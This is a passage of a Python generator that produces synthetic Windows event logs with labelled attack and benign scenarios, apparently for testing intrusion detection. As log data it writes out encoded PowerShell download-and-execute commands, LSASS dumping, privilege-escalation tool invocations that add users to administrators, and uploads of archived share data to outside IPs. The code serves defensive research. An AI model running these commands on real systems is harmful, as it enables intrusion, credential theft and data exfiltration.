        parent = r.choice([OFFICE + "WINWORD.EXE", OFFICE + "EXCEL.EXE", OFFICE + "OUTLOOK.EXE"])
        dom = r.choice(["cdn-update", "docs-share", "msoffice-cloud", "invoice-portal",
                        "sharepoint-files"]) + r.choice([".com", ".net", ".info", ".co"])
        if r.random() < 0.6:
            url = "https://%s/%s" % (dom, r.choice(["a", "s.ps1", "update", "r", "k"]))
            script = r.choice([
                "IEX (New-Object Net.WebClient).DownloadString('%s')",
                "$w=New-Object System.Net.WebClient;$w.Proxy.Credentials=[Net.CredentialCache]"
                "::DefaultNetworkCredentials;iex $w.DownloadString('%s')",
                "iex (iwr -UseBasicParsing '%s').Content",
                "sal n New-Object;$d=(n Net.WebClient).DownloadData('%s');"
                "[Reflection.Assembly]::Load($d).EntryPoint.Invoke($null,$null)",
            ]) % url
            enc = base64.b64encode(script.encode("utf-16-le")).decode()
            flag = r.choice(["-enc", "-e", "-EncodedCommand", "-ec"])
            extra = r.choice(["-nop -w hidden", "-NoP -NonI -W Hidden", "-w 1 -ep bypass", ""])
            cmd = ("powershell.exe %s %s %s" % (extra, flag, enc)).replace("  ", " ")
            img = PS
        else:
            img = SYS32 + "mshta.exe"
            cmd = r.choice(["mshta.exe https://%s/view.hta" % dom,
                            "\"%s\" \"C:\\Users\\%s\\AppData\\Local\\Temp\\Invoice_%d.hta\"" % (
                                img, u.name, r.randint(1000, 9999))])
        self.proc(t, h, u, img, cmd, parent, "\"%s\"" % parent, lab, scen)
        if r.random() < 0.5:
            self.net(t + r.uniform(3, 40), h, u, img, self.public_ip(), r.choice([443, 443, 8443]),
                     lab, scen)

    def lsass_read(self, t, u, h, lab, scen):
        r = self.rng
        src = r.choice([SYS32 + "rundll32.exe", PS,
                        "C:\\Users\\%s\\AppData\\Local\\Temp\\%s.exe" % (
                            u.name, r.choice(["wuhelper", "msupd", "tmp4F2A", "svch"])),
                        "C:\\ProgramData\\%s\\%s.exe" % (
                            r.choice(["Intel", "Oracle", "USOShared"]),
                            r.choice(["igfx", "jusched", "usocore"]))])
        self.access(t, h, u, src, r.choice(["0x1010", "0x1410", "0x1fffff", "0x1438", "0x143a"]),
                    lab, scen)

    def hop(self, t, src, dst, acct, method, pkg, lab, scen):
        r = self.rng
        ltype = 10 if method == "rdp" else 3
        self.logon(t, dst, acct, ltype, src, pkg=pkg, priv=True, lab=lab, scen=scen)
        shell = None
        if method == "wmi":
            shell = r.choice([CMD, PS])
            if shell == CMD:
                c = r.choice(["whoami", "hostname", "ipconfig", "tasklist", "net localgroup administrators",
                              "dir C:\\Users"])
                cmd = "cmd.exe /Q /c %s 1> \\\\127.0.0.1\\ADMIN$\\__%d.%d 2>&1" % (
                    c, int(START.timestamp() + t), r.randint(1000, 9999))
            else:
                cmd = "powershell.exe -nop -c \"%s\"" % r.choice(
                    ["Get-Process", "Get-LocalGroupMember Administrators", "Get-ChildItem C:\\Users",
                     "Get-NetTCPConnection -State Established"])
            self.proc(t + r.uniform(2, 9), dst, acct, shell, cmd, WMIPRVSE,
                      "C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding", lab, scen,
                      "High")
        elif method == "winrm":
            self.proc(t + r.uniform(1, 3), dst, acct, WSMPROVHOST, WSMPROVHOST + " -Embedding",
                      SVCHOST, SVCHOST + " -k DcomLaunch -p", lab, scen, "High")
            shell = WSMPROVHOST
            if r.random() < 0.5:
                c = r.choice([(SYS32 + "whoami.exe", "\"C:\\Windows\\system32\\whoami.exe\" /priv"),
                              (CMD, "\"C:\\Windows\\system32\\cmd.exe\" /c tasklist"),
                              (SYS32 + "net.exe", "\"C:\\Windows\\system32\\net.exe\" session")])
                self.proc(t + r.uniform(5, 90), dst, acct, c[0], c[1], WSMPROVHOST,
                          WSMPROVHOST + " -Embedding", lab, scen, "High")
        elif method == "psexec":
            svc = r.choice(["C:\\Windows\\PSEXESVC.exe", "C:\\Windows\\%s.exe" % "".join(
                r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(8))])
            self.proc(t + r.uniform(1, 3), dst, SYSTEM_USER, svc, svc, SERVICES, SERVICES, lab,
                      scen, "System")
            self.proc(t + r.uniform(3, 6), dst, acct, CMD, "cmd.exe", svc, svc, lab, scen, "High")
            shell = CMD
        return shell

    def pick_method(self, allow_psexec=True):
        r = self.rng
        ms = ["wmi", "winrm", "rdp", "psexec"]
        w = [0.32, 0.26, 0.30, 0.12 if allow_psexec else 0.0]
        return r.choices(ms, weights=w)[0]

    def sc_lateral(self, d, lab, scen):
        r = self.rng
        u = self.ordinary(d, self.used)
        h = u.host
        t = d * DAY + r.uniform(8.5, 14) * HOUR
        self.initial_exec(t, u, lab, scen)
        t += r.uniform(30, 180) * MIN
        self.lsass_read(t, u, h, lab, scen)
        if r.random() < 0.7 or not self.helpdesk:
            acct = r.choice(self.admins)
        else:
            acct = r.choice(self.helpdesk)
        n = r.randint(2, 5)
        path = [self.other_ws({h, acct.owner.host})]
        if acct.kind == "helpdesk" and n >= 3 and r.random() < 0.6:
            path.append(self.other_ws({h, acct.owner.host, path[0]}))
        while len(path) < n:
            pool = acct.servers if (acct.servers and r.random() < 0.6) else self.servers
            s = r.choice(pool)
            if s not in path:
                path.append(s)
        src = h
        t += r.uniform(10, 60) * MIN
        for k, dst in enumerate(path):
            if k:
                t += r.uniform(30, 240) * MIN
            pkg = "Kerberos" if r.random() < 0.8 else "NTLM"
            self.hop(t, src, dst, acct, self.pick_method(), pkg, lab, scen)
            src = dst

    PRIVESC = [
        ("PrintSpoofer64.exe", "{exe} -i -c cmd"),
        ("PrintSpoofer64.exe", "{exe} -c \"net localgroup administrators {u} /add\""),
        ("JuicyPotato.exe", "{exe} -l 1337 -p C:\\Windows\\System32\\cmd.exe -a \"/c net localgroup administrators {u} /add\" -t *"),
        ("GodPotato-NET4.exe", "{exe} -cmd \"cmd /c net localgroup administrators {u} /add\""),
        ("SweetPotato.exe", "{exe} -p C:\\Windows\\System32\\cmd.exe -a \"/c net localgroup administrators {u} /add\""),
        ("EfsPotato.exe", "{exe} \"net localgroup administrators {u} /add\""),
        ("KrbRelayUp.exe", "{exe} full -m shadowcred -f"),
        (None, "powershell.exe -ep bypass -c \"Import-Module .\\CVE-2021-1675.ps1; Invoke-Nightmare -DLL C:\\Users\\{u}\\AppData\\Local\\Temp\\nightmare.dll\""),
        ("CVE-2024-26229.exe", "{exe}"),
    ]

    def sc_privesc(self, d, lab, scen):
        r = self.rng
        u = self.ordinary(d, self.used)
        h = u.host
        t = d * DAY + r.uniform(9, 15) * HOUR
        tool, cmd = r.choice(self.PRIVESC)
        if tool is None:
            img = PS
            exe = "powershell.exe"
        else:
            folder = r.choice(["C:\\Users\\%s\\AppData\\Local\\Temp\\" % u.name,
                               "C:\\Users\\%s\\Downloads\\" % u.name, "C:\\ProgramData\\",
                               "C:\\Users\\Public\\"])
            name = tool if r.random() < 0.5 else r.choice(["upd.exe", "helper.exe", "svc64.exe",
                                                            "setup_x64.exe"])
            img = folder + name
            exe = name
        self.proc(t, h, u, img, cmd.format(exe=exe, u=u.name), r.choice([CMD, PS]), None, lab,
                  scen)
        t += r.uniform(1, 12) * MIN
        on_dc = r.random() < 0.35
        if on_dc:
            dc = self.dc()
            group = r.choice(["Domain Admins", "Domain Admins", "Backup Operators"])
            self.group_add(t, dc, u, group, DOMAIN if group == "Domain Admins" else "Builtin",
                           u.name, DOMAIN, lab, scen)
        else:
            if r.random() < 0.5:
                self.proc(t - r.uniform(1, 5), h, SYSTEM_USER, SYS32 + "net.exe",
                          "net localgroup administrators %s /add" % u.name, CMD, "cmd.exe", lab,
                          scen, "System")
            subj = (u.name, DOMAIN) if r.random() < 0.5 else (h.name + "$", DOMAIN)
            self.group_add(t, h, u, "Administrators", "Builtin", subj[0], subj[1], lab, scen)
        if r.random() < 0.6:
            t += r.uniform(1, 6) * MIN
            self.interactive(t, u, h, 2 if h.kind == "desk" else 11, priv=True, lab=lab, scen=scen)
        targets = []
        n = r.randint(1, 3)
        if on_dc or r.random() < 0.3:
            targets.append(self.dc())
        while len(targets) < n:
            s = r.choice(u.servers if r.random() < 0.3 else self.servers)
            if s not in targets:
                targets.append(s)
        r.shuffle(targets)
        for s in targets:
            t += r.uniform(30, 150) * MIN
            self.logon(t, s, u, 3, h, priv=True, lab=lab, scen=scen)

    DISCOVERY = [
        (SYS32 + "whoami.exe", "whoami"), (SYS32 + "whoami.exe", "whoami /groups"),
        (SYS32 + "net.exe", "net user /domain"), (SYS32 + "net.exe", "net user {u} /domain"),
        (SYS32 + "nltest.exe", "nltest /dclist:" + DNS), (SYS32 + "nltest.exe", "nltest /domain_trusts"),
        (SYS32 + "quser.exe", "quser"), (SYS32 + "systeminfo.exe", "systeminfo"),
        (SYS32 + "ARP.EXE", "arp -a"),
    ]

    def sc_apt(self, d, lab, scen):
        r = self.rng
        u = self.ordinary(d, self.used)
        h = u.host
        t = d * DAY + r.uniform(7.5, 10.5) * HOUR
        shell = r.choice([CMD, PS])
        for c in r.sample(self.DISCOVERY, r.randint(1, 3)):
            self.proc(t, h, u, c[0], c[1].format(u=u.name), shell, None, lab, scen)
            t += r.uniform(1, 25) * MIN
        t += r.uniform(40, 150) * MIN
        if r.random() < 0.5:
            self.lsass_read(t, u, h, lab, scen)
        else:
            out = r.choice(["C:\\Users\\Public\\d.bin", "C:\\Windows\\Temp\\mem.dmp",
                            "C:\\ProgramData\\log.tmp"])
            self.proc(t, h, u, SYS32 + "rundll32.exe",
                      "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump %d %s full" % (
                          r.randint(150, 250) * 4, out), r.choice([CMD, PS]), None, lab, scen,
                      "High")
            if r.random() < 0.5:
                self.access(t + 0.4, h, u, SYS32 + "rundll32.exe", "0x1fffff", lab, scen)
        t += r.uniform(60, 180) * MIN
        adm = r.choice(self.admins)
        s = r.choice(adm.servers if r.random() < 0.7 else self.servers)
        while s in self.dcs:
            s = r.choice(self.servers)
        method = self.pick_method()
        shell = self.hop(t, h, s, adm, method, "Kerberos" if r.random() < 0.8 else "NTLM", lab,
                         scen)
        parent = {"wmi": WMIPRVSE, "winrm": WSMPROVHOST, "rdp": EXPLORER, "psexec": CMD}[method]
        if method == "wmi" and shell:
            parent = shell
        t += r.uniform(40, 150) * MIN
        arch = r.choice(["archive", "bk", "data", "q%d" % r.randint(1, 9)])
        share = r.choice(["D:\\Shares\\Finance", "D:\\Data\\HR", "\\\\%s\\projects" % r.choice(
            self.user_servers).name, "E:\\Exports"])
        c = r.choice([
            ("C:\\Program Files\\7-Zip\\7z.exe", "7z.exe a -mx3 -p%s C:\\ProgramData\\%s.7z %s" % (
                "".join(r.choice("abcdefgh12345") for _ in range(8)), arch, share)),
            ("C:\\Program Files\\WinRAR\\Rar.exe", "rar.exe a -r -hp%s C:\\Windows\\Temp\\%s.rar %s" % (
                "".join(r.choice("abcdefgh12345") for _ in range(8)), arch, share)),
            (PS, "powershell.exe -c \"Compress-Archive -Path %s\\* -DestinationPath C:\\Users\\Public\\%s.zip\"" % (
                share, arch)),
        ])
        self.proc(t, s, adm, c[0], c[1], parent, None, lab, scen, "High")
        t += r.uniform(30, 150) * MIN
        dst = self.public_ip()
        tool = r.choice(["curl", "powershell", "bitsadmin"])
        if tool == "curl":
            img = SYS32 + "curl.exe"
            cmd = "curl.exe -s -k -T C:\\ProgramData\\%s.7z https://%s/upload" % (arch, dst)
        elif tool == "powershell":
            img = PS
            cmd = ("powershell.exe -nop -c \"Invoke-WebRequest -Uri https://%s/u -Method PUT "
                   "-InFile C:\\Users\\Public\\%s.zip\"" % (dst, arch))
        else:
            img = SYS32 + "bitsadmin.exe"
            cmd = "bitsadmin /transfer j%d /upload https://%s/in C:\\Windows\\Temp\\%s.rar" % (
                r.randint(1, 99), dst, arch)
        if r.random() < 0.6:
            self.proc(t - r.uniform(0.5, 2), s, adm, img, cmd, parent, None, lab, scen, "High")
        self.net(t, s, adm, img, dst, r.choice([443, 443, 80, 8443]), lab, scen)

    def sc_pth(self, d, lab, scen):
        r = self.rng
        adm = r.choice(self.admins)
        w = self.other_ws({adm.owner.host})
        t = d * DAY + r.uniform(9, 16.5) * HOUR
        n = r.randint(3, min(6, len(self.servers)))
        targets = []
        while len(targets) < n:
            s = r.choice(adm.servers if r.random() < 0.4 else self.servers)
            if s not in targets and s not in self.dcs:
                targets.append(s)
        span = r.uniform(60, 120) * MIN
        offs = sorted(r.uniform(0, span) for _ in targets)
        offs[0], offs[-1] = 0.0, span
        for s, o in zip(targets, offs):
            self.logon(t + o, s, adm, 3, w, pkg="NTLM", priv=True, lab=lab, scen=scen)

    def sc_patch(self, d, lab, scen):
        r = self.rng
        adm = r.choice(self.admins)
        t = d * DAY + r.uniform(17.5, 20.5) * HOUR
        self.logon(t, self.bastion, adm, 10, adm.owner.host, priv=True, lab=lab, scen=scen)
        kb = "KB50%05d" % r.randint(30000, 49999)
        n = max(3, min(len(self.servers), r.randint(len(self.servers) // 3,
                                                    2 * len(self.servers) // 3)))
        for s in r.sample(self.servers, n):
            t += r.uniform(1, 5) * MIN
            self.logon(t, s, adm, 3, self.bastion, priv=True, lab=lab, scen=scen)
            self.proc(t + r.uniform(5, 30), s, adm, SYS32 + "wusa.exe",
                      "wusa.exe C:\\Patches\\%s.msu /quiet /norestart" % kb,
                      r.choice([CMD, WSMPROVHOST]), None, lab, scen, "High")

    def sc_helpdesk(self, d, lab, scen):
        r = self.rng
        hd = r.choice(self.helpdesk)
        t = d * DAY + r.uniform(9, 14) * HOUR
        for _ in range(r.randint(4, 8)):
            for _ in range(200):
                target = r.choice(self.workstations)
                if target.name not in self.hd_touched[hd.name] and target is not hd.owner.host:
                    break
            self.hd_touched[hd.name].add(target.name)
            self.helpdesk_visit(t, hd, target, lab, scen)
            t += r.uniform(12, 45) * MIN

    def sc_new_admin(self, d, lab, scen):
        r = self.rng
        u = self.ordinary(d, self.used)
        adm = self.make_admin(u, "admin")
        adm.servers = r.sample(self.servers, r.randint(3, 6))
        t = d * DAY + (u.start_h + r.uniform(1, 4)) * HOUR
        self.logon(t, self.bastion, adm, 10, u.host, priv=True, lab=lab, scen=scen)
        for s in r.sample(adm.servers, r.randint(2, min(4, len(adm.servers)))):
            t += r.uniform(10, 60) * MIN
            self.logon(t, s, adm, 10, self.bastion, priv=True, lab=lab, scen=scen)
            img, cmd = r.choice(ADMIN_TOOLS)
            self.proc(t + r.uniform(30, 200), s, adm, img, cmd.format(img=img), EXPLORER,
                      "C:\\Windows\\Explorer.EXE", lab, scen, "High")

    def sc_scanner(self, d, lab, scen):
        self.scan_sweep(d * DAY + self.rng.uniform(1, 4) * HOUR, lab, scen)

    def sc_migration(self, d, lab, scen):
        self.backup_night(d, self.backup_new, lab, scen)

    def attacks(self):
        a = self.a
        r = self.rng
        self.used = set()
        n = a.scenarios
        window = list(range(a.baseline_days, a.days))
        # backup migration nights are chosen first: on them the old server does not run
        nights = sorted(window)[-n:] if n <= len(window) else window
        mig_days = [nights[i % len(nights)] for i in range(n)] if n else []
        self.migration_nights = set(mig_days)
        plan = []
        for i in range(n):
            plan.append(("attack:lateral_movement", self.window_day(), self.sc_lateral))
            plan.append(("attack:privilege_escalation", self.window_day(), self.sc_privesc))
            plan.append(("attack:apt_progression", self.window_day(), self.sc_apt))
            plan.append(("attack:pass_the_hash", self.window_day(), self.sc_pth))
        for i in range(n):
            plan.append(("benign:patch_rollout", self.window_day(False), self.sc_patch))
            plan.append(("benign:helpdesk_remote", self.window_day(), self.sc_helpdesk))
            plan.append(("benign:new_admin", self.window_day(), self.sc_new_admin))
            plan.append(("benign:scanner_sweep", self.window_day(False), self.sc_scanner))
            plan.append(("benign:service_migration", mig_days[i], self.sc_migration))
        return plan

    def run(self):
        plan = self.attacks()
        self.normal()  # baseline first, so helpdesk history is known to the negatives
        counters = collections.Counter()
        for kind, d, fn in plan:
            self.scenario(kind, counters[kind], d, fn)
            counters[kind] += 1
        order = list(dict.fromkeys(k for k, _, _ in plan))
        self.scenarios.sort(key=lambda s: (order.index(s["kind"]),
                                           int(s["scenario"].rsplit("-", 1)[1])))
        lo, hi = 0.0, self.end - 0.001
        self.ev = [e if lo <= e[0] <= hi else (min(max(e[0], lo), hi),) + e[1:] for e in self.ev]
        self.ev.sort(key=lambda e: (e[0], e[1]))

    # ------------------------------------------------------------------ output
    def write(self, outdir):
        os.makedirs(outdir, exist_ok=True)
        r = self.rng
        rid = r.randint(20000, 90000)
        start_ts = START.timestamp()
        counts = collections.Counter()
        dumps = json.JSONEncoder(separators=(",", ":"), ensure_ascii=False).encode
        epath = os.path.join(outdir, "events.jsonl.gz")
        lpath = os.path.join(outdir, "labels.jsonl.gz")
        with open(epath, "wb") as eraw, open(lpath, "wb") as lraw, \
                gzip.GzipFile("", "wb", 6, eraw, mtime=0) as egz, \
                gzip.GzipFile("", "wb", 6, lraw, mtime=0) as lgz, \
                io.TextIOWrapper(egz, encoding="utf-8", newline="\n") as ef, \
                io.TextIOWrapper(lgz, encoding="utf-8", newline="\n") as lf:
            for t, _, host, eid, data, label, scen in self.ev:
                rid += r.randint(1, 3)
                dt = datetime.fromtimestamp(start_ts + t, tz=timezone.utc)
                st = dt.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
                if eid in SYSMON_IDS:
                    prov, chan = SYSMON_PROVIDER, SYSMON_CHANNEL
                    data = dict([("UtcTime", dt.strftime("%Y-%m-%d %H:%M:%S.") +
                                  "%03d" % (dt.microsecond // 1000))] + list(data.items()))
                else:
                    prov, chan = SEC_PROVIDER, "Security"
                ev = {"Event": {"System": {
                    "Provider": {"#attributes": {"Name": prov}}, "EventID": eid,
                    "EventRecordID": rid, "Channel": chan, "Computer": host.fqdn,
                    "TimeCreated": {"#attributes": {"SystemTime": st}}}, "EventData": data}}
                ef.write(dumps(ev))
                ef.write("\n")
                lf.write(dumps({"computer": host.fqdn, "record_id": rid, "label": label,
                                "scenario": scen}))
                lf.write("\n")
                counts[label] += 1
        a = self.a
        meta = {
            "profile": "generated", "seed": a.seed, "users": a.users, "servers": a.servers,
            "days": a.days, "start": START.isoformat(),
            "baseline_end": (START + timedelta(days=a.baseline_days)).isoformat(),
            "events": len(self.ev), "label_counts": dict(counts.most_common()),
            "scenarios": self.scenarios,
        }
        with open(os.path.join(outdir, "meta.json"), "w", encoding="utf-8") as f:
            json.dump(meta, f, indent=1)
            f.write("\n")
        return meta


def main(argv=None):
    p = argparse.ArgumentParser(description=__doc__.split("\n\n")[0],
                                formatter_class=argparse.RawDescriptionHelpFormatter)
    p.add_argument("outdir")
    p.add_argument("--seed", type=int, default=11)
    p.add_argument("--users", type=int, default=300)
    p.add_argument("--servers", type=int, default=40)
    p.add_argument("--days", type=int, default=21)
    p.add_argument("--baseline-days", type=int, default=14)
    p.add_argument("--scenarios", type=int, default=6)
    a = p.parse_args(argv)
    if a.users < 30 or a.servers < 8:
        p.error("need at least 30 users and 8 servers")
    if not 1 <= a.baseline_days < a.days:
        p.error("--baseline-days must be at least 1 and below --days")
    if a.scenarios < 0:
        p.error("--scenarios must be >= 0")
    t0 = time.time()
    g = Gen(a)
    g.run()
    meta = g.write(a.outdir)
    print("wrote %d events to %s in %.1f s" % (meta["events"], a.outdir, time.time() - t0),
          file=sys.stderr)
    for k, v in meta["label_counts"].items():
        print("  %-28s %7d" % (k, v), file=sys.stderr)
    return 0


if __name__ == "__main__":
    sys.exit(main())
